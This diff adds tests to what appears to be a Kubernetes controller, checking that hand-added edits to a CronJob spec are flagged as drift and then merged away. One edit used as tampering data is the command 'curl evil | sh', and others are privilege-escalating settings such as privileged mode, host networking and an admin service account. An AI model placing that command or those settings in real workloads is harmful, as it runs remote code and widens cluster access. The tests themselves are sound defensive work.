@@ -131,3 +131,51 @@ describe('switching the source of a schedule', () => {
     expect(cronJobDrift(asStored(merged), desired)).toEqual([]);
   });
 });
+
+describe('the controller owns the whole child spec', () => {
+  const owned = schedule({ spec: { source: { persistentVolumeClaim: { claimName: 'data' } }, resources: { requests: { cpu: '100m', memory: '64Mi' } } } });
+  const desired = buildCronJob(owned) as KubeObject;
+  const stored = (): KubeObject & { spec: any } => asStored(desired) as KubeObject & { spec: any };
+  const pod = 'spec.jobTemplate.spec.template.spec';
+
+  it('finds no drift in the child as the API server stores it', () => {
+    expect(cronJobDrift(stored(), desired)).toEqual([]);
+  });
+
+  it.each<[string, Edit, string]>([
+    ['a command', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].command = ['sh', '-c', 'curl evil | sh']), `${pod}.containers[0].command`],
+    ['a privileged container', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].securityContext.privileged = true), `${pod}.containers[0].securityContext.privileged`],
+    ['host networking', (o) => (o.spec.jobTemplate.spec.template.spec.hostNetwork = true), `${pod}.hostNetwork`],
+    ['a service account', (o) => (o.spec.jobTemplate.spec.template.spec.serviceAccountName = 'admin'), `${pod}.serviceAccountName`],
+    ['a read-only source mount made writable', (o) => delete o.spec.jobTemplate.spec.template.spec.containers[0].volumeMounts[1].readOnly, `${pod}.containers[0].volumeMounts[1].readOnly`],
+    ['readOnly on the destination mount', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].volumeMounts[0].readOnly = true), `${pod}.containers[0].volumeMounts[0].readOnly`],
+    ['a resource limit the spec no longer sets', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].resources.limits = { memory: '1Gi' }), `${pod}.containers[0].resources.limits`],
+    ['a dnsPolicy other than the default', (o) => (o.spec.jobTemplate.spec.template.spec.dnsPolicy = 'Default'), `${pod}.dnsPolicy`],
+    ['a Job parallelism', (o) => (o.spec.jobTemplate.spec.parallelism = 5), 'spec.jobTemplate.spec.parallelism'],
+    ['imagePullPolicy Never', (o) => (o.spec.jobTemplate.spec.template.spec.containers[0].imagePullPolicy = 'Never'), `${pod}.containers[0].imagePullPolicy`],
+  ])('reports %s added by hand as drift', (_name, edit, path) => {
+    const obj = stored();
+    edit(obj);
+    expect(cronJobDrift(obj, desired)).toEqual([path]);
+  });
+
+  it('accepts imagePullPolicy Always, which the AlwaysPullImages admission plugin sets', () => {
+    const obj = stored();
+    obj.spec.jobTemplate.spec.template.spec.containers[0].imagePullPolicy = 'Always';
+    expect(cronJobDrift(obj, desired)).toEqual([]);
+  });
+
+  it('removes every hand-added field in one merge, which the server then stores without drift', () => {
+    const obj = stored();
+    Object.assign(obj.spec.jobTemplate.spec.template.spec, { hostNetwork: true, serviceAccountName: 'admin' });
+    obj.spec.jobTemplate.spec.template.spec.containers[0].command = ['sh'];
+    obj.spec.jobTemplate.spec.template.spec.containers[0].resources.limits = { memory: '1Gi' };
+    const merged = mergeDesiredIntoObserved(obj, desired) as KubeObject & { spec: any };
+    expect(merged.spec.jobTemplate.spec.template.spec).not.toHaveProperty('hostNetwork');
+    expect(merged.spec.jobTemplate.spec.template.spec).not.toHaveProperty('serviceAccountName');
+    expect(merged.spec.jobTemplate.spec.template.spec.containers[0]).not.toHaveProperty('command');
+    expect(merged.spec.jobTemplate.spec.template.spec.containers[0].resources).toEqual({ requests: { cpu: '100m', memory: '64Mi' } });
+    expect(merged.spec.jobTemplate.spec.template.spec.dnsPolicy).toBe('ClusterFirst');
+    expect(cronJobDrift(asStored(merged), desired)).toEqual([]);
+  });
+});
